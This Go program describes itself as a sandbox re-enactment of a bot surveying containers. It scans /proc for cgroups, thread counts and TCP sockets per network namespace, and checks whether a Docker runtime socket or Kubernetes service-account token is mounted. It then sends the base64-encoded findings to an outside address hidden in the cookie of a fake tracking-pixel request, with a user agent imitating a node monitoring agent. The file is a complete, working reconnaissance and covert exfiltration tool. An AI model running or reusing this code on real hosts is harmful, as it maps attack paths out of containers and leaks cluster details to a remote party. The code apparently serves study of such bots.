// node-problem-agent: harmless re-enactment of a bot's container survey. It reads /proc alone
// (no ps, no docker, no netstat): which cgroups (containers) the visible threads belong to, the
// sockets each network namespace holds, pid 1's name and whether a runtime socket or a service
// account token is mounted; then sends a digest to 203.0.113.77 (a documentation address the
// sandbox answers). Bounded: one pass, one request.
package main

import (
	"bufio"
	"encoding/base64"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"time"
)

// "0::/kubepods/besteffort/pod1f0c…/3b5e…" -> the last path element names the container.
func cgroupOf(path string) string {
	raw, err := os.ReadFile(path)
	if err != nil {
		return ""
	}
	for _, line := range strings.Split(strings.TrimSpace(string(raw)), "\n") {
		if parts := strings.SplitN(line, ":", 3); len(parts) == 3 && (parts[0] == "0" || strings.Contains(parts[1], "cpu")) {
			return parts[2]
		}
	}
	return ""
}

// Sockets in "/proc/<pid>/net/tcp" that listen (state 0A) or are established (01).
func tcpSummary(pid string) (listen, established int) {
	f, err := os.Open("/proc/" + pid + "/net/tcp")
	if err != nil {
		return 0, 0
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		cols := strings.Fields(sc.Text())
		if len(cols) > 3 && cols[3] == "0A" {
			listen++
		} else if len(cols) > 3 && cols[3] == "01" {
			established++
		}
	}
	return listen, established
}

func main() {
	var kids []*exec.Cmd
	for _, d := range []string{"20", "21"} {
		if c := exec.Command("/bin/sleep", d); c.Start() == nil {
			kids = append(kids, c)
		}
	}
	time.Sleep(300 * time.Millisecond)

	var digest strings.Builder
	threads := map[string]int{}
	netns := map[string]bool{}
	pids, _ := filepath.Glob("/proc/[0-9]*")
	for _, dir := range pids {
		pid := filepath.Base(dir)
		if _, err := strconv.Atoi(pid); err != nil {
			continue
		}
		tasks, _ := os.ReadDir(dir + "/task")
		for _, t := range tasks {
			if cg := cgroupOf(dir + "/task/" + t.Name() + "/cgroup"); cg != "" {
				threads[cg]++
			}
		}
		if ns, err := os.Readlink(dir + "/ns/net"); err == nil && !netns[ns] {
			netns[ns] = true
			l, e := tcpSummary(pid)
			fmt.Fprintf(&digest, "net %s via %s: %d listening, %d established\n", ns, pid, l, e)
		}
	}
	groups := make([]string, 0, len(threads))
	for cg := range threads {
		groups = append(groups, cg)
	}
	sort.Strings(groups)
	for _, cg := range groups {
		fmt.Fprintf(&digest, "cgroup %s: %d threads\n", cg, threads[cg])
	}
	if sched, err := os.ReadFile("/proc/1/sched"); err == nil {
		fmt.Fprintf(&digest, "pid1 %s\n", strings.SplitN(string(sched), "\n", 2)[0])
	}
	if mounts, err := os.ReadFile("/proc/self/mountinfo"); err == nil {
		m := string(mounts)
		fmt.Fprintf(&digest, "docker.sock %v serviceaccount %v overlay %v\n",
			strings.Contains(m, "docker.sock"), strings.Contains(m, "kubernetes.io/serviceaccount"),
			strings.Contains(m, " - overlay "))
	}

	req, _ := http.NewRequest("GET", "http://203.0.113.77/px.gif", nil)
	req.Header.Set("Cookie", "_sid="+base64.RawURLEncoding.EncodeToString([]byte(digest.String())))
	req.Header.Set("User-Agent", "node-problem-agent/0.9")
	client := &http.Client{Timeout: 5 * time.Second}
	if resp, err := client.Do(req); err == nil {
		resp.Body.Close()
		fmt.Println("node-problem-agent:", len(groups), "cgroups,", len(netns), "netns:", resp.Status)
	} else {
		fmt.Println("node-problem-agent: offline:", err)
	}
	for _, k := range kids {
		k.Process.Kill()
		k.Wait()
	}
}
